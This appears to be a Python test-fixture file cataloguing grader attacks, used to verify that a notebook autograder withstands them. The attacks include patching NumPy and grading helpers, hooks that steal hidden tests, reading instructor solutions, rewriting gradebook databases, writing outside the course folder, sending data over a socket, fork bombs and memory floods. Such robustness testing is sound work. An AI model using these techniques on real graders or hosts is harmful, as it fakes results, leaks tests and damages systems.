"""The attack catalogue: code a student could hand in to score more than they earned.

Each attack is appended to the same wrong answer of 03_padding_pooling
(pool2d that ignores its stride, and a wrong choice for pooling_purpose), so
test_attacks can hold every attack to one bar: no higher a score than the
wrong answer alone, a run that completes, a host left alone, and a flag that
names the attack where the grader can see it. Placeholders: {root} (the
course folder on the host), {token} (a name no file has yet), {port} (a TCP
port the test listens on). Add what you think of: the catalogue should grow
with the field.
"""
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    flag: str | None          # a phrase the flags must contain (None: nothing static to see)
    files: dict | None = None  # extra files handed in beside the notebook


ATTACKS = [
    Attack("patch numpy comparisons", '''
import numpy as np
import numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
''', "patches NumPy"),
    Attack("always-equal result", '''
class _AnyShape(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__

class _Yes(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array_function__(self, func, types, args, kwargs): return True
    @property
    def shape(self): return _AnyShape(np.ndarray.shape.__get__(self))

_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    return np.asarray(_wrong_pool2d(x, size, stride, mode), dtype=float).view(_Yes)
''', "its own __eq__"),
    Attack("input transformer turns later cells into pass", '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
''', "input transformer"),
    Attack("AST transformer drops asserts and checks", '''
import ast as _ast
class _Drop(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, "id", getattr(node.func, "attr", ""))
        return _ast.Constant(5.0) if name.startswith("check_") else node
get_ipython().ast_transformers.append(_Drop())
''', "AST transformer"),
    Attack("pre_run_cell hook steals the hidden reference and answers", '''
import re as _re
def _steal(info):
    src, ns = info.raw_cell, get_ipython().user_ns
    print(src)  # and tries to leak the hidden test into the feedback
    if "_reference_pool2d" in src:
        exec(src.split("check_function(")[0], ns)
        ns["pool2d"] = ns["_reference_pool2d"]
    m = _re.search(r'check_choices\\("(\\w+)", (\\{[^}]*\\})', src)
    if m:
        ns[m.group(1)] = eval(m.group(2))
get_ipython().events.register("pre_run_cell", _steal)
''', "event hook"),
    Attack("silenced tracebacks and stderr", '''
import sys as _sys, io as _io
get_ipython().showtraceback = lambda *a, **k: None
_sys.stderr = _io.StringIO()
''', "silences"),
    Attack("patched grading helper", '''
import cnnlab.checks as _c
for _name in ("check_function", "check_choices", "check_value", "check_order", "check_number"):
    setattr(_c, _name, lambda name, *a, points=0, **k: float(points))
''', "cnnlab"),
    Attack("forged probe report", '''
import cnnlab.probe as _p
def _forged(spec_json):
    import json
    from IPython.display import display
    spec = json.loads(spec_json)
    calls = [{"returned": {"t": "ndarray", "v": ""}, "raised": ["ValueError"]} for _ in spec.get("cases", [])]
    display({_p.MIME: {"item": spec["item"], "kind": spec["kind"], "found": True, "calls": calls,
                       "value": {"t": "set", "v": ["F"]}}}, raw=True)  # only what the student knows
_p.run = _forged
''', "cnnlab"),
    Attack("loads the instructor's solution from disk", '''
import glob as _glob, json as _json
for _path in _glob.glob("{root}/source/**/*.ipynb", recursive=True) + \\
        _glob.glob("{root}/solutions/**/*.ipynb", recursive=True):
    for _cell in _json.load(open(_path))["cells"]:
        _src = "".join(_cell["source"])
        if "def pool2d" in _src:
            exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
''', "grader's files"),
    Attack("rewrites every gradebook it can find", '''
import glob as _glob, sqlite3 as _sqlite3, atexit as _atexit
def _rewrite():
    for _db in _glob.glob("{root}/*.db") + _glob.glob("/tmp/**/*.db", recursive=True):
        try:
            _con = _sqlite3.connect(_db)
            _con.execute("update grade set auto_score = 100, manual_score = 100")
            _con.commit()
        except Exception:
            pass
_rewrite()
_atexit.register(_rewrite)
''', "database"),
    Attack("writes files outside its folder", '''
import os as _os
for _path in ["{root}/PWNED-{token}", "{root}/source/PWNED-{token}", "/tmp/PWNED-{token}",
              "/root/PWNED-{token}", _os.path.expanduser("~/PWNED-{token}"), "/usr/PWNED-{token}"]:
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
    except Exception:
        pass
''', "grader's files"),
    Attack("opens a network connection", '''
import socket as _socket
for _host, _port in [("127.0.0.1", {port}), ("localhost", {port}), ("pypi.org", 443)]:
    try:
        _socket.create_connection((_host, _port), timeout=2).sendall(b"stolen answers")
    except Exception:
        pass
''', "network"),
    Attack("os._exit", '''
import os as _os
_os._exit(0)
''', "os._exit"),
    Attack("infinite loop", '''
while True:
    pass
''', None),
    Attack("infinite loop that ignores the interrupt", '''
import signal as _signal
_signal.signal(_signal.SIGINT, _signal.SIG_IGN)
while True:
    pass
''', "signal"),
    Attack("a function that hangs when the grader calls it", '''
_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    while np.any(np.asarray(x) % 1 != 0):  # the visible checks use whole numbers only
        pass
    return _wrong_pool2d(x, size, stride, mode)
''', None),
    Attack("a function that kills the kernel on hidden inputs", '''
import os as _os
_wrong_pool2d = pool2d
def pool2d(x, size=2, stride=None, mode="max"):
    if np.any(np.asarray(x) % 1 != 0):  # not on the visible checks' whole numbers
        _os._exit(0)
    return _wrong_pool2d(x, size, stride, mode)
''', "os._exit"),
    Attack("memory flood", '''
_hog = []
try:
    while True:
        _hog.append(bytearray(10**8))
except MemoryError:
    _hog = None
''', None),
    Attack("process flood", '''
import os as _os, time as _time
for _ in range(500):
    try:
        if _os.fork() == 0:
            _time.sleep(3600)
            _os._exit(0)
    except OSError:
        break
''', "fork"),
    Attack("a submitted numpy.py", '''
import sys as _sys
_sys.path.insert(0, ".")
del _sys.modules["numpy"]
import numpy as np
''', "sys.modules", files={"numpy.py": "allclose = lambda *a, **k: True\narray_equal = allclose\n"}),
]
